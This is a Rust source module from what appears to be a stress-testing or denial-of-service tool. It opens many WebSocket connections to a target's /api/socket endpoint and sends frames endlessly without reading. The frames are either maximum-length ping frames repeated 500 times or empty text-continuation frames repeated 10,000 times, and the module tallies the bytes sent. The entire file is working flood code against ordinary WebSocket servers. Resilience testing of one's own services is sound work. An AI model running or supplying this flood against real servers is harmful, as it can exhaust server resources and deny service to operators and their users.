//! WebSockets that send frames endlessly and read nothing.

use std::io;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::{sleep, sleep_until};

use super::target::{Counts, Target};

/// The frames to send.
#[derive(Clone, Copy)]
pub(crate) enum Frame {
    /// Pings of maximum length.
    Ping,
    /// Empty continuations of a text.
    Continuation,
}

impl Frame {
    /// The first frame and the repeated one, masked with zeros.
    fn bytes(self) -> (&'static [u8], Vec<u8>) {
        match self {
            Self::Ping => (&[], [&[0x89, 0x80 | 0x7d][..], &[0; 4 + 0x7d]].concat().repeat(500)),
            Self::Continuation => {
                (&[0x01, 0x80, 0, 0, 0, 0], [0x00, 0x80, 0, 0, 0, 0].repeat(10_000))
            }
        }
    }
}

/// Opens `number` WebSockets and sends these frames on each as fast as the server reads them.
pub(crate) async fn flood(target: Target, number: usize, frame: Frame) -> String {
    let floods = (0..number).map(|_| flood_one(&target, frame));
    let mut counts = Counts::default();
    let mut bytes = 0;
    for (more, sent) in futures_util::future::join_all(floods).await {
        counts.merge(more);
        bytes += sent;
    }
    format!("{:.1} MB sent; {counts}", bytes as f64 / 1e6)
}

async fn flood_one(target: &Target, frame: Frame) -> (Counts, u64) {
    let (mut counts, mut bytes) = (Counts::default(), 0);
    while !target.is_over() {
        tokio::select! {
            result = send(target, frame, &mut bytes) => counts.add(match result {
                Ok(response) => format!("received {response}"),
                Err(error) => error.kind().to_string(),
            }),
            () = sleep_until(target.until.into()) => counts.add("open to the end"),
        }
        sleep(Duration::from_millis(200)).await;
    }
    (counts, bytes)
}

async fn send(target: &Target, frame: Frame, bytes: &mut u64) -> io::Result<String> {
    let mut stream = TcpStream::connect(target.address).await?;
    let upgrade = format!(
        "GET /api/socket HTTP/1.1\r\nHost: {}\r\nConnection: upgrade\r\n\
         Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\n\
         Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n",
        target.address
    );
    stream.write_all(upgrade.as_bytes()).await?;
    let mut response = [0; 12];
    stream.read_exact(&mut response).await?;
    if response != *b"HTTP/1.1 101" {
        return Ok(String::from_utf8_lossy(&response).into_owned());
    }
    let (begin, frames) = frame.bytes();
    stream.write_all(begin).await?;
    loop {
        stream.write_all(&frames).await?;
        *bytes += frames.len() as u64;
    }
}
